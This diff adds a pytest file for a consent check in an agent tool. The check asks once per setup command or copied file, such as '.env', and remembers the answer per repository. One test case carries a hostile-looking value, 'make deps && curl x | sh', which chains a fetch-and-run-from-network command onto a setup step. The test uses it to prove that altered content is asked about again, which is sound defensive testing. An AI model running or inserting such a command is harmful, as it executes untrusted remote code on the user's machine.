@@ -1,0 +1,87 @@
+"""Consent: once per content and repository, remembered outside it."""
+
+from __future__ import annotations
+
+import os
+from pathlib import Path
+
+import pytest
+
+from agent_farm.consent import Request, require_consent
+from agent_farm.errors import ConsentNeeded, DamagedFile
+
+ROOT = Path("/farms/one")
+SETUP = Request("agent-farm.toml worktree.setup", "make deps")
+COPY = Request(".worktreeinclude", ".env")
+
+
+def stored() -> Path:
+    return Path(os.environ["XDG_STATE_HOME"]) / "agent-farm/consent.json"
+
+
+def test_nothing_wanted_is_nothing_asked() -> None:
+    require_consent(ROOT, [], yes=False, ask=None)
+    assert not stored().exists()
+
+
+def test_without_anybody_to_ask_it_is_refused_with_what_was_wanted() -> None:
+    with pytest.raises(ConsentNeeded) as caught:
+        require_consent(ROOT, [SETUP, COPY], yes=False, ask=None)
+    assert caught.value.evidence == ("agent-farm.toml worktree.setup: make deps", ".worktreeinclude: .env")
+    assert "--yes" in f"{caught.value.why} {caught.value.hint}"
+    assert caught.value.exit_code == 1
+    assert not stored().exists()
+
+
+def test_yes_agrees_and_is_remembered() -> None:
+    require_consent(ROOT, [SETUP], yes=True, ask=None)
+    require_consent(ROOT, [SETUP], yes=False, ask=None)
+
+
+def test_an_answer_is_remembered_and_only_what_is_new_is_asked() -> None:
+    asked: list[list[Request]] = []
+    require_consent(ROOT, [SETUP], yes=False, ask=lambda new: asked.append(list(new)) is None)
+    require_consent(ROOT, [SETUP, COPY], yes=False, ask=lambda new: asked.append(list(new)) is None)
+    require_consent(ROOT, [COPY, SETUP], yes=False, ask=lambda new: asked.append(list(new)) is None)
+    assert asked == [[SETUP], [COPY]]
+
+
+def test_no_is_not_remembered() -> None:
+    with pytest.raises(ConsentNeeded):
+        require_consent(ROOT, [SETUP], yes=False, ask=lambda new: False)
+    with pytest.raises(ConsentNeeded):
+        require_consent(ROOT, [SETUP], yes=False, ask=None)
+
+
+@pytest.mark.parametrize(
+    "other",
+    [
+        (ROOT, Request(SETUP.origin, "make deps && curl x | sh")),
+        (ROOT, Request("agent-farm.toml notify.command", SETUP.content)),
+        (Path("/farms/two"), SETUP),
+        (ROOT, Request(SETUP.origin + "\0", SETUP.content)),
+        (ROOT, Request("agent-farm.toml worktree.setup\0make", "deps")),
+    ],
+)
+def test_other_content_place_or_repository_is_asked_about(other: tuple[Path, Request]) -> None:
+    require_consent(ROOT, [SETUP], yes=True, ask=None)
+    with pytest.raises(ConsentNeeded):
+        require_consent(other[0], [other[1]], yes=False, ask=None)
+
+
+def test_a_path_that_is_no_utf8() -> None:
+    root = Path(os.fsdecode(b"/farms/caf\xe9"))
+    strange = Request(".worktreeinclude", os.fsdecode(b"caf\xe9"))
+    require_consent(root, [strange], yes=True, ask=None)
+    require_consent(root, [strange], yes=False, ask=None)
+
+
+@pytest.mark.parametrize(
+    "content", ["{", "[]", '{"version": 2, "agreed": []}', '{"version": 1}', '{"version": 1, "agreed": 7}']
+)
+def test_a_file_that_cannot_be_read_agrees_to_nothing_and_is_kept(content: str) -> None:
+    stored().parent.mkdir(parents=True)
+    stored().write_text(content)
+    with pytest.raises(DamagedFile, match=r"consent\.json"):
+        require_consent(ROOT, [SETUP], yes=True, ask=None)
+    assert stored().read_text() == content
